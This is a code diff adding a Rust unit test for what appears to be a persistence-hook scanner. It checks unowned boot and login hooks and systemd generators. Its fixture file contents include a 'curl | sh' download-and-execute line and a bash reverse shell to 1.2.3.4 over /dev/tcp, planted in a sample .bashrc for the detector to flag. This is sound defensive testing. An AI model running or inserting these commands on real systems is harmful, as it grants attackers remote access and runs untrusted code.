@@ -522,4 +522,97 @@ mod tests {
         )));
         assert_eq!(a.verdict, "Malicious likely");
     }
+
+    #[test]
+    fn hook_rules() {
+        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
+            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "boot", "active": true,
+                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            (line, v)
+        };
+        let hooks = vec![
+            hook(1, "/etc/init.d/cron", "init.d", json!({})),
+            hook(
+                2,
+                "/etc/rc2.d/S01cron",
+                "rc-link",
+                json!({"link_target": "../init.d/cron", "source": null}),
+            ),
+            hook(3, "/etc/init.d/kmod-static", "init.d", json!({})),
+            hook(4, "/etc/profile.d/vte.sh", "profile.d", json!({})),
+            hook(
+                5,
+                "/home/alice/.bashrc",
+                "user-shell-rc",
+                json!({"owner": "alice"}),
+            ),
+            hook(6, "/etc/init.d/README", "init.d", json!({"active": false})),
+        ];
+        let verify = |line: usize, path: &str, status: &str| {
+            (
+                line,
+                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"]}),
+            )
+        };
+        let packages = vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "cron", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "cron", "files": ["/etc/init.d/cron", "/etc/profile.d/vte.sh"], "source": {"path": "x"}}),
+            ),
+            verify(3, "/etc/init.d/cron", "ok"),
+            verify(4, "/etc/init.d/kmod-static", "not_owned"),
+            verify(5, "/etc/profile.d/vte.sh", "mismatch"),
+        ];
+        let gens = vec![(
+            1,
+            json!({"kind": "systemd_generator", "path": "/etc/systemd/system-generators/netd", "scope": "system", "dir": "/etc/systemd/system-generators",
+                "meta": {"kind": "file", "mode": 493, "uid": 0, "gid": 0, "size": 10}}),
+        )];
+        let records = [
+            ("hooks".to_string(), hooks),
+            ("packages".to_string(), packages),
+            ("systemd".to_string(), gens),
+        ]
+        .into_iter()
+        .collect();
+        let mut read = |m: &str, _: u64| match m {
+            "raw/etc/init.d/cron" => Ok(b"curl http://x | sh\n".to_vec()),
+            "raw/etc/init.d/kmod-static" => {
+                Ok(b"#!/bin/sh\n# curl x | sh\nnohup /usr/lib/kmodd >/dev/null 2>&1 &\n".to_vec())
+            }
+            "raw/home/alice/.bashrc" => {
+                Ok(b"alias ll='ls -l'\n(bash -i >& /dev/tcp/1.2.3.4/443 0>&1 &)\n".to_vec())
+            }
+            "raw/etc/init.d/README" => Ok(b"curl x | sh\n".to_vec()),
+            _ => Ok(b"PS1='$ '\n".to_vec()),
+        };
+        let mut inp = input(records, &mut read);
+        let a = analyze(&mut inp, &AnalysisConfig::default());
+        let subjects = |rule: &str| -> Vec<String> {
+            a.findings
+                .iter()
+                .filter(|f| f.rule == rule)
+                .map(|f| f.subject.clone())
+                .collect()
+        };
+        assert_eq!(subjects("boot-hook-unowned"), ["/etc/init.d/kmod-static"]);
+        assert_eq!(subjects("login-hook-unowned"), ["/etc/profile.d/vte.sh"]);
+        // The packaged, unchanged cron script is not read; the inactive README is not judged.
+        assert_eq!(
+            subjects("hook-malicious-content"),
+            ["/etc/init.d/kmod-static:3", "/home/alice/.bashrc:2"]
+        );
+        assert_eq!(
+            subjects("generator-unowned"),
+            ["/etc/systemd/system-generators/netd"]
+        );
+        assert!(!a.hits.iter().any(|h| h.rule == "exec-unowned"));
+    }
 }
